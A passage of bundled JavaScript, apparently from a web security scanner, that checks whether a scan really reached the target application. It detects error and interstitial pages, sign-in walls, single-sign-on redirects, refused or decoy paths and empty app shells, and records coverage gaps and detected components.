const blocked = limits.find(({kind: kind}) => kind === "scripts_not_loaded");
const why = blocked === undefined ? "" : `; scripts of ${blocked.detail} were not loaded (third-parties)`;
return {
code: "target_empty",
detail: `the start page shows nothing in the browser${why}`
};
}
if (signIns.length > 0) return null;
const {links: links, ...view} = startView;
const phrases = matchPagePhrases({
...view,
isHtml: true,
links: {
length: links
}
});
return phrases === null ? null : {
code: phrases.code,
detail: `the start page shows ${phrases.seen} in the browser`
};
}
function undrawableShell(scripts) {
const [first] = scripts;
if (first === undefined || !scripts.every(isNoScript)) return null;
const path = new URL(first.request.url).pathname.slice(0, 200);
const seen = (0, http.m_)(first) && first.response.status < 400 ? "a page" : describeResponse(first);
return {
code: "target_empty",
detail: `the start page has no content, and its script ${path} responds with ${seen}`
};
}
function isNoScript(attempt) {
if (!(0, http.m_)(attempt)) return !wasNotSent(attempt);
return attempt.response.status >= 400 || (0, http.JL)(attempt) === "text/html";
}
var document_base = __webpack_require__(22263);
const page_view_TEXT_MAX = 2e4;
const ASSETS_MAX = 500;
const ASSETS = new Set([ "script", "stylesheet", "preload" ]);
const IMPORTED = /\b(?:import|from)\s{0,4}\(?\s{0,4}["'](\.{0,2}\/[^"'\s]{1,300})["']/g;
function pageView(exchange) {
const document = (0, html_document.lM)(exchange);
if (document === null) {
const text = collapsed(exchange.response.text.slice(0, page_view_TEXT_MAX));
return {
...page_view_NOTHING,
title: jsonMessage(exchange.response.text),
text: text,
ownText: text
};
}
const {title: title, heading: heading, text: text, ownText: ownText, hasMedia: hasMedia, links: links, markupForms: markupForms, scripts: scripts, subresources: subresources} = document;
const inlineScript = scripts.filter(({url: url}) => url === null).map(script => script.text.slice(0, page_view_TEXT_MAX)).join("").slice(0, page_view_TEXT_MAX);
const imported = [ ...inlineScript.matchAll(IMPORTED) ].flatMap(([, module = ""]) => (0, 
document_base.O)(module, document.base) ?? []);
const loaded = subresources.filter(({kind: kind}) => ASSETS.has(kind)).map(({url: url}) => url);
return {
isHtml: true,
title: collapsed(title),
heading: heading,
text: text,
ownText: ownText,
hasPasswordField: markupForms.some(({controls: controls}) => controls.some(({type: type}) => type === "password")),
hasMedia: hasMedia,
links: links.filter(({element: element}) => element === "a").map(({url: url}) => url),
assets: [ ...loaded, ...imported ].slice(0, ASSETS_MAX),
inlineScript: inlineScript,
scripts: scripts.flatMap(({url: url}) => url ?? []),
refreshTo: links.find(({element: element}) => element === "refresh")?.url ?? null,
forms: document.forms.map(({action: action, fields: fields}) => ({
action: action,
names: fields.map(({name: name}) => name)
}))
};
}
const page_view_NOTHING = {
isHtml: false,
title: "",
heading: "",
text: "",
ownText: "",
hasPasswordField: false,
hasMedia: false,
links: [],
assets: [],
inlineScript: "",
scripts: [],
refreshTo: null,
forms: []
};
function jsonMessage(text) {
if (text.length > 4e3 || !text.trimStart().startsWith("{")) return "";
const document = (0, shared_records.U4)(text);
const said = [ "message", "title", "detail", "error" ].map(name => (0, shared_records.$6)(document, name));
return collapsed(said.find(value => value !== null)?.slice(0, 500) ?? "");
}
function collapsed(text) {
return text.split(/\s+/).join(" ").trim();
}
function isGarbled(exchange, view) {
if (!view.isHtml) return false;
const start = exchange.response.text.slice(0, 2e3);
const odd = start.replaceAll(/[^\u0000-\u0008\u000e-\u001f\ufffd]/g, "").length;
return odd * 10 > start.length;
}
function isEmptyPage(exchange, view) {
const {response: response} = exchange;
if (response.body.length === 0 || response.text.trim() === "") return true;
return view.isHtml && view.text === "" && !view.hasMedia && view.assets.length === 0 && view.inlineScript.trim() === "" && view.forms.length === 0 && view.refreshTo === null;
}
const same_page_known = new WeakMap;
function pageDigest(exchange) {
const before = same_page_known.get(exchange);
if (before !== undefined) return before;
const digest = digestOf(exchange);
same_page_known.set(exchange, digest);
return digest;
}
function digestOf(exchange) {
const view = pageView(exchange);
const path = new URL(exchange.request.url).pathname;
const assets = view.assets.map(url => steady(URL.parse(url)?.pathname ?? url, path)).sort();
const parts = [ (0, http.JL)(exchange), view.isHtml, steady(view.title, path), steady(view.text, path), assets ];
return (0, external_node_crypto_.createHash)("sha256").update(JSON.stringify(parts)).digest("base64");
}
function steady(text, path) {
let result = text;
for (const echo of echoes(path)) result = result.replaceAll(echo, "");
return result.replace(/[A-Za-z0-9_-]{0,64}[0-9][A-Za-z0-9_-]{0,64}/g, "#").replace(/#[#:.,\s]{0,64}#/g, "#");
}
function echoes(path) {
const last = path.split("/").at(-1) ?? "";
return [ ...new Set([ (0, shared_text.oF)(path), path, path.slice(1), last ]) ].filter(text => text.length > 2);
}
var interstitial_of = __webpack_require__(84059);
const ERROR_TEXT_MAX = 64 * 1024;
function startPageObstacle(landing, target) {
if (landing.leavesTo !== null) return departure(landing.leavesTo, target);
const {final: final} = landing;
const {status: status} = final.response;
const obstacle = pageObstacle(final);
if (obstacle !== null) return obstacle;
if (landing.leftOut !== undefined) return {
code: "target_left_out",
detail: `the start page redirects to ${landing.leftOut.slice(0, 200)}, which include-paths or exclude-paths leaves out`
};
if (status >= 300 && status < 400) return {
code: "target_redirect_loop",
detail: `the start page responds with ${status} after ${landing.chain.length} requests and never shows a page`
};
return signOnElsewhere(final, target);
}
function pageObstacle(exchange) {
const {status: status, headers: headers, text: text} = exchange.response;
const view = pageView(exchange);
const start = status >= 400 ? text.slice(0, ERROR_TEXT_MAX) : text;
const known = (0, interstitial_of.C)(name => (0, http.wx)(headers, name), start);
if (known !== null && (known.header !== undefined || status >= 400 || isShort(view))) return {
code: known.code,
detail: `the start page shows ${known.name}`
};
if (status >= 500) return {
code: "target_server_error",
detail: `the start page responds with ${status}`
};
if (status === 404 || status === 410) return {
code: "target_not_found",
detail: `the start page responds with ${status}`
};
if (status >= 400) return {
code: "target_refused",
detail: `the start page responds with ${status}`
};
if (status >= 300) return null;
if (isGarbled(exchange, view)) return {
code: "target_unreadable",
detail: "the start page cannot be decoded as its headers say"
};
if (isEmptyPage(exchange, view)) return {
code: "target_empty",
detail: `the start page responds with ${status} and no content`
};
if (view.hasPasswordField) return null;
if (isScriptGate(view)) return {
code: "target_challenge",
detail: "the start page is a script that sets a cookie and loads another page"
};
const phrases = matchPagePhrases(view);
return phrases === null ? null : {
code: phrases.code,
detail: `the start page shows ${phrases.seen}`
};
}
function isShort(view) {
return view.text.length <= 4e3 && view.links.length <= 15;
}
function isScriptGate(view) {
const {text: text, links: links, hasMedia: hasMedia, forms: forms, inlineScript: inlineScript} = view;
if (!view.isHtml || text.length > 300 || links.length > 1 || hasMedia || forms.length > 0) return false;
return /\bdocument\.cookie\s{0,4}=/.test(inlineScript) && /\blocation\b/.test(inlineScript);
}
function isSignInPage({final: final}, target) {
const document = (0, html_document.lM)(final);
if (final.response.status >= 300 || document === null) return false;
const {url: url} = final.request;
const wasSentThere = url !== target.startUrl && (0, sign_in_page.A$)(new URL(url).pathname) && !(0, 
sign_in_page.A$)(new URL(target.startUrl).pathname);
return wasSentThere || (0, sign_in_page.Fx)(document);
}
function leadsToSignIn(attempt, target) {
const to = (0, http.m_)(attempt) ? (0, redirect.E)(attempt) : null;
return to !== null && to.origin === target.origin && (0, sign_in_page.A$)(to.pathname);
}
function departure(leavesTo, target) {
const url = new URL(leavesTo);
const isOtherHost = url.hostname !== new URL(target.origin).hostname;
if (isOtherHost && (0, sign_in_page.pM)(url)) return {
code: "target_single_sign_on",
detail: `the start page redirects to the sign-in of ${shownHost(url)}`
};
return {
code: "target_off_host",
detail: `the start page redirects to ${url.origin.slice(0, 200)}`
};
}
function signOnElsewhere(final, target) {
const view = pageView(final);
const host = new URL(target.origin).hostname;
const saml = view.forms.find(({names: names}) => names.includes("SAMLRequest") || names.includes("wresult"));
const samlUrl = saml === undefined ? null : URL.parse(saml.action);
if (samlUrl !== null && samlUrl.hostname !== host) return {
code: "target_single_sign_on",
detail: `the start page posts to the sign-in of ${shownHost(samlUrl)}`
};
if (view.text.length > 600) return null;
const scripted = view.text.length > 200 ? undefined : LOCATION.exec(view.inlineScript.slice(0, 8e3))?.[1];
const away = URL.parse(view.refreshTo ?? scripted ?? "");
return away === null || away.hostname === host ? null : departure(away.href, target);
}
const LOCATION = /\blocation(?:\.href)?(?:\s{0,4}=|\.(?:replace|assign)\()\s{0,4}["'](https?:\/\/[^"'\s]{1,500})["']/i;
function shownHost(url) {
return url.host.slice(0, 100);
}
const NEARLY_ALL = .95;
const PATHS_MIN = 5;
const INTERSTITIAL_BYTES_MAX = 64 * 1024;
const SAMPLE = 12;
const DECOYS_MIN = 10;
const LOST_SHOWN = 6;
function turnedAway(landing, controls, target) {
const first = landing.chain[0] ?? landing.final;
const late = requestsLate(controls);
const detail = startTurned(first, controls, target) ?? (late === null ? requestsTurned(controls) : null) ?? missingTurned(controls, target) ?? everythingTurned(first, controls);
if (detail !== null) return {
code: "target_turned_away",
detail: detail
};
return late === null ? null : {
code: "target_too_slow",
detail: late
};
}
function stopped({start: start}, lost) {
if ((0, http.m_)(start) || start.failure.code !== "refused") return null;
const requests = lost.map(({request: {method: method, url: url}}) => {
const {pathname: pathname, search: search} = new URL(url);
return `${method} ${(0, shared_text.xv)(pathname + search, 70)}`;
});
const shown = [ ...new Set(requests) ].sort((one, other) => Number(/ \/$/.test(one)) - Number(/ \/$/.test(other)));
const last = shown.length === 0 ? "" : `; the last requests were ${shown.slice(0, LOST_SHOWN).join(", ")}`;
return {
code: "target_stopped",
detail: `its port is closed${last}`
};
}
function outOfTime({start: start, isTimeOver: isTimeOver}) {
return isTimeOver && wasNotSent(start) ? {
code: "target_too_slow",
detail: "the time of the scan was used up before the target could be seen once more"
} : null;
}
function startTurned(first, {start: start, page: page}, target) {
const again = describeDegradation(first, start, target);
if (again !== null) return `the start page later responded with ${again}`;
const other = page === null ? null : describeDegradation(page.before, page.after, target);
return other === null ? null : `a page that was readable later responded with ${other}`;
}
function requestsLate({doubted: doubted}) {
const isLate = attempt => !(0, http.m_)(attempt) && attempt.failure.code === "timeout";
const late = doubted.filter(({before: before, after: after}) => isLate(before) && (0, 
http.m_)(after));
return late.length === 0 || late.length < doubted.length ? null : "the target responded to some requests only when they were repeated at the end";
}
function requestsTurned({doubted: doubted}) {
const passing = doubted.find(({before: before, after: after}) => (0, http.m_)(after) && describeObstacle(after) === null && isOther(before, after));
if (passing === undefined) return null;
const seen = describeObstacle(passing.before) ?? describeResponse(passing.before);
return `the target responded to requests with ${seen} for a while`;
}
function missingTurned({early: early, late: late}, target) {
const both = `a path that does not exist got ${describeResponse(early)} first and ${describeResponse(late)} later`;
if (!isRefused(early) && isRefused(late) && !wasNotSent(early)) return both;
if (!(0, http.m_)(early) || !(0, http.m_)(late)) return null;
if (early.response.status >= 400 && late.response.status < 400) return both;
const missing = describeDegradation(early, late, target);
return missing === null ? null : `a path that does not exist later responded with ${missing}`;
}
function everythingTurned(first, {start: start, late: late}) {
if (!(0, http.m_)(start) || !(0, http.m_)(late) || start.response.status >= 300) return null;
const isOneBody = pageDigest(start) === pageDigest(late) && pageDigest(start) !== pageDigest(first);
return isOneBody ? "the start page and a path that does not exist later showed one page" : null;
}
function isOther(before, after) {
if (describeObstacle(before) !== null) return true;
return (0, http.m_)(before) && Math.floor(before.response.status / 100) !== Math.floor(after.response.status / 100);
}
function describeObstacle(attempt) {
if (wasNotSent(attempt)) return null;
if (isRefused(attempt)) return describeResponse(attempt);
if (!(0, http.m_)(attempt) || attempt.response.status >= 300 || attempt.response.body.length > INTERSTITIAL_BYTES_MAX) return null;
const obstacle = pageObstacle(attempt);
return obstacle === null || obstacle.code === "target_not_found" ? null : withoutSubject(obstacle);
}
function withoutSubject({detail: detail}) {
return detail.replace(/^the start page (shows|responds with|is) /, "");
}
function describeDegradation(before, after, target) {
if (wasNotSent(after)) return null;
if (isRefused(after)) return isRefused(before) ? null : describeResponse(after);
if (!(0, http.m_)(after)) return null;
if (before.response.status < 300 && departureOf(after, target.origin) !== null) return "a redirect to another host";
const obstacle = before.response.status < 400 ? pageObstacle(after) : null;
if (obstacle === null || pageObstacle(before)?.code === obstacle.code) return null;
return withoutSubject(obstacle);
}
function oneResponse(landing, early, others) {
const {final: final} = landing;
if (!(0, http.m_)(early) || early.response.status >= 300) return null;
const digest = pageDigest(final);
if (pageDigest(early) !== digest) return null;
const isOther = exchange => exchange.response.status < 300 && exchange.response.body.length > 0 && pageDigest(exchange) !== digest && pageObstacle(exchange) === null;
if (others.some(isOther) || isShell(final)) return null;
return {
code: "target_same_response",
detail: "every path shows the page that the start page shows"
};
}
const MOUNT_POINT = /\bid=["']?(?:root|app|__next|__nuxt|___gatsby|svelte|q-app|application)["']?[^<>]{0,100}>\s{0,50}<\/|<app-root[\s>]/i;
const INLINE_APPLICATION = 500;
function isShell(exchange) {
const view = pageView(exchange);
const hasProgram = view.inlineScript.length >= INLINE_APPLICATION || view.assets.length > 0;
return hasProgram && MOUNT_POINT.test(exchange.response.text.slice(0, 64 * 1024));
}
function pathsRefused(landing, early, exposure, target) {
const attempts = exposure.probes.map(({attempt: attempt}) => attempt).filter(attempt => !wasNotSent(attempt));
if (attempts.length < PATHS_MIN) return null;
const refused = detail => ({
code: "target_paths_refused",
detail: detail
});
const share = count => count / attempts.length;
const no = attempts.filter(isRefused);
const failed = no.filter(attempt => !(0, http.m_)(attempt) || attempt.response.status === 429 || attempt.response.status >= 500);
if (share(no.length) >= NEARLY_ALL || share(failed.length) > .5 || share(no.length) > .5 && isRefused(early)) return refused(`${no.length} of ${attempts.length} paths were refused (${mostCommon(no)})`);
const away = attempts.flatMap(attempt => departureOf(attempt, target.origin) ?? []);
if (share(away.length) >= NEARLY_ALL) return refused(`${away.length} of ${attempts.length} paths were redirected to ${away[0].origin.slice(0, 200)}`);
const shown = attempts.filter(http.m_).filter(({response: response}) => response.status < 300);
if (share(shown.length) < NEARLY_ALL) return null;
const instead = shownInstead(shown, landing, target);
if (instead === null) return null;
return refused(instead === "decoys" ? `each of ${shown.length} paths showed a page of its own` : `${shown.length} of ${attempts.length} paths showed one page that is not of the site`);
}
function redirectedPath(early, exposure, target) {
const attempts = exposure.probes.map(({attempt: attempt}) => attempt).filter(attempt => !wasNotSent(attempt));
const redirected = attempts.filter(http.m_).filter(attempt => redirectWithin(attempt, target.origin) !== null);
const share = redirected.length / attempts.length;
const isBlanket = share >= NEARLY_ALL || share > .5 && redirectWithin(early, target.origin) !== null;
return attempts.length >= PATHS_MIN && isBlanket ? redirected[Math.floor(redirected.length / 2)] ?? null : null;
}
function redirectRefused(landing, final, target) {
if (wasNotSent(final)) return null;
const refused = what => ({
code: "target_paths_refused",
detail: `nearly all paths were redirected to ${final.request.url.slice(0, 200)}, which ${what}`
});
const shown = describeObstacle(final);
if (shown !== null) return refused(`responded with ${shown}`);
if (!(0, http.m_)(final) || final.response.status >= 400) return null;
if (redirectWithin(final, target.origin) !== null) return refused("redirects without end");
if (departureOf(final, target.origin) !== null) return refused("leaves the host");
if (pageView(final).hasPasswordField || (0, sign_in_page.A$)(new URL(final.request.url).pathname)) return null;
return shownInstead([ final ], landing, target) === null ? null : refused("showed a page that is not of the site");
}
function shownInstead(shown, landing, target) {
const page = onePage(shown);
if (page === null) {
const isDecoy = new Set(judge_coverage_sampleOf(shown).map(pageDigest)).size >= DECOYS_MIN;
const isOwn = judge_coverage_sampleOf(shown).some(one => isOwnNotFoundPage(one, pageView(landing.final), target));
return isDecoy && !isOwn ? "decoys" : null;
}
if (pageDigest(page) === pageDigest(landing.final)) return null;
return isOwnNotFoundPage(page, pageView(landing.final), target) ? null : "one-page";
}
function onePage(exchanges) {
const sample = judge_coverage_sampleOf(exchanges);
const [first] = sample;
if (first === undefined) return null;
return sample.every(exchange => pageDigest(exchange) === pageDigest(first)) ? first : null;
}
function judge_coverage_sampleOf(exchanges) {
const step = Math.max(1, Math.floor(exchanges.length / SAMPLE));
return exchanges.filter((_, index) => index % step === 0);
}
function isOwnNotFoundPage(page, start, target) {
if (pageObstacle(page) !== null && pageObstacle(page)?.code !== "target_not_found") return false;
const view = pageView(page);
if (saysNotFound(view)) return true;
const known = new Set([ ...start.assets, ...start.links ]);
return [ ...view.assets, ...view.links ].some(url => {
const {origin: origin, pathname: pathname} = new URL(url);
return origin === target.origin && pathname !== "/" && known.has(url);
});
}
function mostCommon(attempts) {
const counts = new Map;
for (const attempt of attempts) counts.set(describeResponse(attempt), (counts.get(describeResponse(attempt)) ?? 0) + 1);
return [ ...counts ].sort(([, one], [, other]) => other - one)[0]?.[0] ?? "no response";
}
function likeMissing({probes: probes}, missing, target) {
const isAlike = attempt => {
if (isRefused(missing)) return isRefused(attempt);
if (departureOf(missing, target.origin) !== null) return departureOf(attempt, target.origin) !== null;
if (redirectWithin(missing, target.origin) !== null) return redirectWithin(attempt, target.origin) !== null;
return isShown(missing) && isShown(attempt) && pageDigest(attempt) === pageDigest(missing);
};
return probes.map(({attempt: attempt}) => attempt).filter(attempt => attempt.request.method === "GET" && isAlike(attempt));
}
function isLoginWall(landing, {missing: missing, without: without, sample: sample}, target) {
const isRedirected = attempt => redirectWithin(attempt, target.origin) !== null;
const isLetIn = attempt => (0, http.m_)(attempt) && describeObstacle(attempt) === null && departureOf(attempt, target.origin) === null && !(isRedirected(without) && isRedirected(attempt));
const letIn = sample.filter(isLetIn);
if (!isLetIn(missing) || letIn.length === 0) return false;
const shown = [ missing, ...letIn ].filter(isShown);
return shown.length === 0 || shownInstead(shown, landing, target) === null;
}
function isShown(attempt) {
return (0, http.m_)(attempt) && attempt.response.status < 300;
}
const INDEPENDENT_EVIDENCE = new Set([ "tls", "plainHttp", "dns", "email", "ports" ]);
const GATHERED_LATE = new Set([ "cors", "methods", "exposure", "active", "access", "secondResponses", "rules" ]);
const GATHERED_LATE_IN_DEPTH = new Set([ ...GATHERED_LATE, "crawl", "libraries" ]);
const coverage_watch_ASSETS_MAX = 3;
const CONTROL_BYTES = 256 * 1024;
const coverage_watch_NOTED_MAX = 500;
const COINCIDENCE_MAX = 2;
const DOUBTED_MAX = 5;
const LOST_MAX = 8;
const WALL_SAMPLE = 2;
const HOPS_MAX = 3;
const CLOSING_REQUESTS = 4 + DOUBTED_MAX + HOPS_MAX + coverage_watch_ASSETS_MAX;
const CLOSING_REQUESTS_SIGNED_IN = CLOSING_REQUESTS + 1 + WALL_SAMPLE;
class CoverageWatch {
#options;
#early;
#interstitials=[];
#silent=[];
#unusual=[];
#redirects=[];
#lost=[];
#noted=new WeakSet;
constructor(options) {
this.#options = options;
this.#early = this.#missing();
}
#missing(identity = "user") {
const {fetch: fetch, missingPrefix: missingPrefix, token: token} = this.#options;
return fetch({
url: missingPrefix + token(),
maxBytes: CONTROL_BYTES,
fresh: true,
identity: identity
});
}
async end() {
const {store: store, target: target} = this.#options;
const early = await this.#early;
const landing = await store.gather("landing");
if (landing.state !== "available") {
const obstacle = {
code: "target_unreadable",
detail: `the start page: ${landing.reason}`.slice(0, 300)
};
return this.#coverage(obstacle, "all", [], false);
}
const crawl = await store.gathered("crawl");
const exposure = await store.gathered("exposure");
const pages = crawl === null ? [ landing.value.final ] : crawl.pages.map(({exchange: exchange}) => exchange);
const isSignIn = isSignInPage(landing.value, target) || leadsToSignIn(early, target);
const startObstacle = startPageObstacle(landing.value, target);
if (startObstacle !== null) return this.#coverage(startObstacle, "all", [], false);
const controls = await this.#controls(early, pages);
const away = this.#away(landing.value, controls);
const paths = away === null && exposure !== null ? await this.#judgePaths(landing.value, early, exposure) : null;
const obstacle = away ?? paths?.obstacle ?? null;
if (obstacle !== null) return this.#coverage(obstacle, "late", pages, isSignIn);
const others = [ ...pages, ...crawl?.resources ?? [], ...probesWithResponse(exposure) ];
if (oneResponse(landing.value, early, others) !== null) return this.#coverage(await this.#sameAsAssets(landing.value, early), "all", pages, isSignIn);
const shell = await this.#emptyShell(landing.value);
if (shell !== null) return this.#coverage(shell, "all", pages, isSignIn);
const coverage = this.#coverage(null, "late", pages, isSignIn);
return paths === null || paths.wall === null ? coverage : {
...coverage,
wall: paths.wall
};
}
async #sameAsAssets(landing, early) {
const assets = await this.#assets(landing);
const isLeftOut = assets.length > 0 && assets.every(isBlocked);
return isLeftOut ? null : oneResponse(landing, early, assets.filter(http.m_));
}
async #emptyShell({final: final}) {
const {inlineScript: inlineScript, scripts: scripts} = pageView(final);
const {fetch: fetch, target: target} = this.#options;
const isOwn = url => new URL(url).origin === target.origin;
if (!isShell(final) || inlineScript.trim() !== "" || scripts.length > coverage_watch_ASSETS_MAX || !scripts.every(isOwn)) return null;
return undrawableShell(await Promise.all(scripts.map(url => fetch({
url: url
}))));
}
#away(landing, controls) {
return stopped(controls, this.#lost) ?? turnedAway(landing, controls, this.#options.target) ?? outOfTime(controls);
}
note(attempt, identity) {
if (this.#noted.has(attempt)) return;
this.#noted.add(attempt);
if ((0, http.m_)(attempt)) this.#lost = []; else if (!wasNotSent(attempt) && this.#lost.length < LOST_MAX) this.#lost.push(attempt);
const {method: method, headers: headers, body: body} = attempt.request;
if (method !== "GET" || headers.length > 0 || body !== undefined) return;
const isRedirect = (0, http.m_)(attempt) && attempt.response.status >= 300 && attempt.response.status < 400;
if (isRedirect) keep(this.#redirects, {
attempt: attempt,
identity: identity
}); else if (describeObstacle(attempt) !== null) keep(this.#listFor(attempt), {
attempt: attempt,
identity: identity
});
}
#listFor(attempt) {
if (!(0, http.m_)(attempt)) return this.#silent;
const {status: status} = attempt.response;
return status < 300 || isRefusalOfClient(status) ? this.#interstitials : this.#unusual;
}
#doubtful() {
const byStatus = Map.groupBy(this.#unusual, ({attempt: attempt}) => (0, http.m_)(attempt) ? attempt.response.status : 0);
const unusual = [ ...byStatus.values() ].sort((one, other) => other.length - one.length).flat();
const repeated = [ unusual, this.#silent ].filter(({length: length}) => length > COINCIDENCE_MAX);
const lists = [ this.#interstitials, ...repeated, this.#redirects ];
const firsts = lists.flatMap(list => list.slice(0, 1));
const lasts = lists.flatMap(list => list.slice(1).slice(-1));
return [ ...firsts, ...lasts ].slice(0, DOUBTED_MAX);
}
async #judgePaths(landing, early, exposure) {
const {fetch: fetch, target: target, isSignedIn: isSignedIn} = this.#options;
if (!isSignedIn) return {
obstacle: await this.#pathsObstacle(landing, early, exposure),
wall: null
};
const without = await this.#missing("none");
const obstacle = await this.#pathsObstacle(landing, without, exposure);
if (obstacle === null) return {
obstacle: obstacle,
wall: null
};
const alike = likeMissing(exposure, without, target);
const sample = alike.filter((_, index) => index % Math.ceil(alike.length / WALL_SAMPLE) === 0);
const asUser = await Promise.all(sample.map(({request: request}) => fetch({
url: request.url,
maxBytes: CONTROL_BYTES,
fresh: true
})));
if (!isLoginWall(landing, {
missing: early,
without: without,
sample: asUser
}, target)) return {
obstacle: obstacle,
wall: null
};
return {
obstacle: null,
wall: `without the session ${obstacle.detail}`
};
}
async #pathsObstacle(landing, missing, exposure) {
const {fetch: fetch, target: target} = this.#options;
const refused = pathsRefused(landing, missing, exposure, target);
const redirected = refused === null ? redirectedPath(missing, exposure, target) : null;
if (redirected === null) return refused;
let final = redirected;
for (let hop = 0; hop < HOPS_MAX; hop += 1) {
const to = redirectWithin(final, target.origin);
if (to === null) break;
final = await fetch({
url: to.href,
maxBytes: CONTROL_BYTES,
fresh: true,
identity: "none"
});
}
return redirectRefused(landing, final, target);
}
async #controls(early, pages) {
const {fetch: fetch, target: target} = this.#options;
let start = await fetch({
url: target.startUrl,
maxBytes: CONTROL_BYTES,
fresh: true
});
if (!(0, http.m_)(start)) start = await fetch({
url: target.startUrl,
maxBytes: CONTROL_BYTES,
fresh: true
});
const late = await this.#missing();
const before = pages.slice(1).findLast(({response: response}) => response.status < 300);
const after = before === undefined ? null : await fetch({
url: before.request.url,
maxBytes: CONTROL_BYTES,
fresh: true
});
const page = before === undefined || after === null ? null : {
before: before,
after: after
};
const doubted = await Promise.all(this.#doubtful().map(async ({attempt: attempt, identity: identity}) => ({
before: attempt,
after: await fetch({
url: attempt.request.url,
maxBytes: CONTROL_BYTES,
fresh: true,
identity: identity
})
})));
return {
early: early,
late: late,
start: start,
page: page,
doubted: doubted,
isTimeOver: this.#options.isTimeOver()
};
}
#assets({final: final}) {
const {fetch: fetch, target: target} = this.#options;
const own = pageView(final).assets.filter(url => new URL(url).origin === target.origin);
return Promise.all(own.slice(0, coverage_watch_ASSETS_MAX).map(url => fetch({
url: url
})));
}
#coverage(obstacle, extent, pages, signInRequired) {
const readable = pages.filter(({response: response}) => response.status < 300 && response.body.length > 0);
const summary = {
application_seen: obstacle === null,
code: obstacle?.code ?? null,
detail: obstacle?.detail ?? null,
pages: new Set(readable.map(pageDigest)).size,
sign_in_required: signInRequired && !this.#options.isSignedIn
};
if (obstacle === null) return {
summary: summary,
doubt: null
};
const late = this.#options.scanType === "quick" ? GATHERED_LATE : GATHERED_LATE_IN_DEPTH;
const concerns = ({needs: needs}) => needs.some(kind => extent === "all" ? !INDEPENDENT_EVIDENCE.has(kind) : late.has(kind));
return {
summary: summary,
doubt: {
reason: `incomplete: ${obstacle.detail}`,
concerns: concerns
}
};
}
}
function isBlocked(attempt) {
return !(0, http.m_)(attempt) && attempt.failure.code === "blocked";
}
function keep(list, noted) {
if (list.length < coverage_watch_NOTED_MAX) list.push(noted);
}
function probesWithResponse(exposure) {
return (exposure?.probes ?? []).map(({attempt: attempt}) => attempt).filter(http.m_);
}
function browserPart(gathered, clean) {
if (gathered.state !== "available") {
const counts = {
pages: 0,
routes: 0,
endpoints: 0,
withheld: 0
};
return {
used: false,
detail: gathered.reason.slice(0, 300),
product: null,
sandboxed: false,
...counts
};
}
const {product: product, sandboxed: sandboxed, pages: pages, routes: routes, endpoints: endpoints, withheld: withheld, screenshot: screenshot, screenshotNote: screenshotNote, limits: limits, incomplete: incomplete} = gathered.value;
const notes = [ incomplete ?? describeLimits(limits), screenshotNote ].filter(note => typeof note === "string");
return {
used: incomplete === null,
detail: notes.length === 0 ? null : clean(notes.join("; ")).slice(0, 400),
product: product,
sandboxed: sandboxed,
pages: pages.length,
routes: routes.length,
endpoints: endpoints.length,
withheld: withheld,
limits: limits.map(limit => ({
...limit,
detail: clean(limit.detail).slice(0, 300)
})),
screenshot: screenshot
};
}
function withBrowser(coverage, gathered, {isRequired: isRequired, clean: clean, startPages: startPages}) {
if (gathered === null) return coverage;
const browser = browserPart(gathered, clean);
const signIns = gathered.state === "available" && coverage.signed_in === undefined ? gathered.value.signIns : [];
const isSignIn = startPages.some(url => signIns.includes(url));
const seen = {
...coverage,
browser: browser,
sign_in_required: coverage.sign_in_required || isSignIn
};
if (browser.used || !isRequired || !coverage.application_seen) return seen;
const code = gathered.state === "available" ? "browser_incomplete" : "browser_missing";
return {
...seen,
application_seen: false,
code: code,
detail: browser.detail
};
}
function withStartView(coverage, evidence, clean) {
const obstacle = coverage.summary.application_seen ? drawnObstacle(evidence) : null;
if (obstacle === null) return coverage;
return doubted(coverage.summary, {
code: obstacle.code,
message: clean(obstacle.detail)
});
}
const CREATED_MAX = 100;
const COMPONENTS_MAX = 300;
function withReach(coverage, sources) {
const reach = {};
const created = new Map;
for (const kind of contract_coverage.cT) {
const counted = sources[kind]?.reach;
if (counted !== undefined) reach[kind] = counted;
for (const {path: path, count: count} of sources[kind]?.created ?? []) created.set(path.slice(0, 300), (created.get(path.slice(0, 300)) ?? 0) + count);
}
const {pages: pages} = reach;
const listed = [ ...created ].map(([path, count]) => ({
path: path,
count: count
}));
return {
...coverage,
...pages === undefined ? {} : {
pages_read: pages.covered,
pages_known: pages.known
},
...Object.keys(reach).length === 0 ? {} : {
reach: reach
},
...listed.length === 0 ? {} : {
created: listed.slice(0, CREATED_MAX)
}
};
}
function withApi(coverage, evidence) {
if (evidence === null) return coverage;
const {descriptions: descriptions, operations: operations, requested: requested, fault: fault} = evidence;
if (descriptions.length === 0 && fault === null) return coverage;
const leftOut = descriptions.reduce((sum, one) => sum + one.leftOut, 0);
const detail = fault === null ? descriptions.map(described).join("; ") : `The API description was not used: ${fault}.`;
const api = {
descriptions: descriptions.length,
operations: operations.length,
requested: requested,
left_out: leftOut,
detail: detail.slice(0, 300)
};
if (fault === null || !coverage.application_seen) return {
...coverage,
api: api
};
return {
...coverage,
api: api,
application_seen: false,
code: "api_description_unusable",
detail: api.detail
};
}
function described({format: format, version: version, source: source}) {
return `${contributors_NAMES[format]}${version === "" ? "" : ` ${version}`} ${source === "option" ? "as given" : `at ${source}`}`;
}
const contributors_NAMES = {
openapi: "OpenAPI",
graphql: "GraphQL",
postman: "Postman",
har: "HAR"
};
function withComponents(coverage, evidence) {
if (evidence === null) return coverage;
const {libraries: libraries, servers: servers} = evidence;
const all = [ ...libraries.map(({name: name, version: version, url: url, how: how}) => ({
purl: (0, package_url.E)("npm", name, version),
url: url,
how: how
})), ...servers.map(({name: name, version: version, url: url, header: header}) => ({
purl: (0, package_url.E)("generic", name, version),
url: url,
how: `the ${header} header`
})) ];
const fitting = all.filter(({purl: purl, url: url, how: how}) => purl.length <= 300 && url.length <= 2e3 && how.length <= 100);
const distinct = [ ...new Map([ ...fitting ].reverse().map(one => [ one.purl, one ])).values() ];
return {
...coverage,
components: distinct.sort((a, b) => (0, shared_compare.n)(a.purl, b.purl)).slice(0, COMPONENTS_MAX)
};
}
function withSignIn(coverage, failure) {
const {summary: summary} = coverage;
if (failure === null) return {
...coverage,
summary: {
...summary,
signed_in: true
}
};
if (failure.code === "sign_in_page_not_found" && !summary.application_seen) return {
...coverage,
summary: {
...summary,
signed_in: false
}
};
return doubted({
...summary,
signed_in: false
}, failure);
}
function doubted(summary, {code: code, message: detail}) {
return {
summary: {
...summary,
application_seen: false,
code: code,
detail: detail
},
doubt: {
reason: `incomplete: ${detail}`,
concerns: ({needs: needs}) => needs.some(kind => !INDEPENDENT_EVIDENCE.has(kind))
}
};
}
const ANONYMOUS_VIEW = {
